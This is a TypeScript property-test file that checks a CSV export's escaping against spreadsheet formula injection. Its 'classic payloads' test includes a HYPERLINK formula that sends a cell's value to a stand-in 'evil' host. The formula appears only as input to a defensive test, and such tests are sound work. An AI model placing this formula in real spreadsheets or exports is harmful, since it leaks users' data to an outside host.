/**
 * CSV injection (OWASP): generated tests of the export's cell escaping. Whatever a field
 * holds, a spreadsheet never sees a cell starting with a formula character, and the
 * verifier reads back exactly what was written (so exports keep verifying).
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cell, splitCsvLine, uncell } from './export-format.js';

/** Strings biased towards the characters that matter: formula starters, quotes, separators. */
const hostile = fc.string({
  unit: fc.oneof(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '"', ',', ';', 'A', '1', ' ', '(', ')'), fc.string({ maxLength: 1 })),
  maxLength: 40,
});

describe('CSV cell escaping', () => {
  it('no cell read back by a spreadsheet starts with = + - @ TAB or CR, and every cell round-trips', () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 6 }), (values) => {
        // Line breaks never reach a cell (records are normalised); the rest is arbitrary.
        const clean = values.map((v) => v.replace(/\n/g, ' '));
        const line = clean.map((v) => cell(v)).join(',');
        const cells = splitCsvLine(line);
        expect(cells).toHaveLength(clean.length);
        cells.forEach((c, i) => {
          expect(c).not.toMatch(/^[=+\-@\t\r]/);
          expect(uncell(c)).toBe(clean[i]);
        });
      }),
      { numRuns: 2000 },
    );
  });

  it('escapes the classic payloads', () => {
    expect(cell('=HYPERLINK("http://evil/?x="&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil/?x=""&A1,""click"")"`);
    expect(cell('-2-3')).toBe(`"'-2-3"`);
    expect(cell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(cell('HS-2025-0001')).toBe('HS-2025-0001');
    expect(cell(42)).toBe('42');
  });
});
